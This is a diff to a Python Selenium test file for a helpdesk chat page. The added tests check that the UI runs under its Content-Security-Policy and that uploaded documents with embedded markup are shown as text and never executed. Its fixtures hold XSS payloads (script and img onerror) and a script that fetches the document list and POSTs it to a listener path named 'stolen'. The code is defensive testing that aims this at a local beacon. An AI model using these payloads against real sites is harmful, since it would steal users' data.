@@ -1,17 +1,20 @@
 """The chat page in a real headless Chromium (Debian's chromium + chromedriver, installed by .ci/run).
 
 Asks a question in Bulgarian, waits for the answer with a numbered source, saves a screenshot, and checks that
-markup planted in a document is shown as text, not executed.
+markup planted in a document is shown as text, not executed; that the UI works under its Content-Security-Policy;
+and that an uploaded HTML original with a script never runs it on the helpdesk's origin.
 """
 
 from __future__ import annotations
 
+import http.server
 import os
 import shutil
 import threading
 import time
 from pathlib import Path
 
+import httpx
 import pytest
 import uvicorn
 from selenium import webdriver
@@ -21,7 +24,7 @@ from selenium.webdriver.support import expected_conditions as EC
 from selenium.webdriver.support.ui import WebDriverWait
 
 from common.runtime import Runtime
-from common.settings import Settings
+from common.settings import ServiceSettings, Settings
 from ingest.pipeline import Ingestor
 from tests.conftest import ROOT, SAMPLE_CORPUS
 
@@ -31,6 +34,7 @@ SCREENSHOT_DIR = Path(os.environ.get("HELPDESK_SCREENSHOT_DIR", ROOT / "data" / 
 # Markdown loses its tags at ingest, but its title keeps them; a plain-text file keeps them in the body.
 PLANTED_MD = ("---\ntitle: \"<img src=x onerror=alert(1)> Planted guide\"\nlanguage: en\n---\n\n"
               "# Planted guide\n\nThe planted guide says the kindergarten allowance is 777 euro per child per month.\n")
+ADMIN_KEY = "browser-admin-key"
 PLANTED_TXT = ("The planted notice says the swimming allowance is 555 euro <script>alert('x')</script> per child "
                "per month <b>bold</b>.\n")
 
@@ -44,7 +48,7 @@ def ui_url(tmp_path_factory, embedding_cache_dir):
     (corpus / "planted-notice.txt").write_text(PLANTED_TXT, encoding="utf-8")
     data_dir = tmp_path_factory.mktemp("ui-data")
     (data_dir / "cache").symlink_to(embedding_cache_dir, target_is_directory=True)
-    settings = Settings(data_dir=data_dir)
+    settings = Settings(data_dir=data_dir, service=ServiceSettings(admin_keys=ADMIN_KEY))
     runtime = Runtime(settings)
     assert Ingestor(settings, runtime.store, runtime.embedder).ingest([SAMPLE_CORPUS, corpus]).ok
     runtime.close()
@@ -66,6 +70,9 @@ def browser(tmp_path_factory):
                  "--disable-background-networking", "--disable-component-update", "--disable-sync",
                  "--window-size=1280,1400", f"--user-data-dir={tmp_path_factory.mktemp('chromium-profile')}"):
         options.add_argument(flag)
+    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})  # the console, where CSP violations show
+    options.add_experimental_option("prefs", {"download.default_directory": str(tmp_path_factory.mktemp("downloads")),
+                                              "download.prompt_for_download": False})
     driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
     yield driver
     driver.quit()
@@ -123,3 +130,71 @@ def test_draft_is_made_and_downloaded_without_a_copy_on_the_server(browser, ui_u
     assert saved.read_text(encoding="utf-8") == draft_box.get_attribute("value")
     assert server_copies() == before  # the file was made in the browser
     browser.get("about:blank")  # close the page's event stream, so the server can stop at once
+
+
+def csp_violations(browser) -> list[str]:
+    return [entry["message"] for entry in browser.get_log("browser") if "Content Security Policy" in entry["message"]]
+
+
+def test_the_ui_works_under_its_content_security_policy(browser, ui_url):
+    """The questions above ran under the UI's CSP; nothing the page needed was refused by it."""
+    response = httpx.get(ui_url)
+    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
+    browser.get(ui_url)
+    WebDriverWait(browser, 60).until(EC.element_to_be_clickable((By.CSS_SELECTOR, "#question textarea")))
+    assert csp_violations(browser) == []
+
+
+class Beacon:
+    """A listener on another loopback port: a script that ran would call it (and nothing else does)."""
+
+    def __init__(self) -> None:
+        hits = self.hits = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def _record(self):
+                hits.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            do_GET = do_POST = _record
+
+            def log_message(self, *args):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+
+
+def scripted_original(beacon_url: str) -> str:
+    return (f"<html><head><title>Regional childcare grant</title></head><body><h1>Regional childcare grant</h1>"
+            f"<p>The regional childcare grant pays 318 euro per child per month.</p>"
+            f"<script>document.title = 'PWNED'; new Image().src = '{beacon_url}/script';"
+            f"fetch('/v1/documents').then(r => r.text()).then(t => fetch('{beacon_url}/stolen', "
+            f"{{method: 'POST', body: t, mode: 'no-cors'}}));</script>"
+            f"<img src=x onerror=\"new Image().src = '{beacon_url}/onerror'\"></body></html>")
+
+
+@pytest.mark.parametrize("name", ["childcare-grant.html", "childcare-grant.md", "childcare-grant.txt"])
+def test_an_uploaded_original_with_a_script_never_runs_it(browser, ui_url, name):
+    beacon = Beacon()
+    try:
+        page = scripted_original(beacon.url)
+        uploaded = httpx.post(f"{ui_url}v1/documents", headers={"Authorization": f"Bearer {ADMIN_KEY}"},
+                              files={"file": (name, page.encode())}, timeout=120)
+        assert uploaded.status_code == 201, uploaded.text
+        doc_id = uploaded.json()["document"]["doc_id"]
+        browser.get(ui_url)
+        # As a citation link opens it. Not browser.get: a download never finishes loading a page, get would wait.
+        browser.execute_script("window.location.href = arguments[0]", f"{ui_url}v1/documents/{doc_id}/file")
+        time.sleep(3)  # what a script would need to call out
+        assert beacon.hits == [] and "PWNED" not in browser.title
+        if not name.endswith(".html"):  # shown, as text: the markup is there to read, not run
+            assert "<script>" in browser.find_element(By.TAG_NAME, "body").text
+        httpx.delete(f"{ui_url}v1/documents/{doc_id}", headers={"Authorization": f"Bearer {ADMIN_KEY}"}, timeout=60)
+    finally:
+        beacon.close()
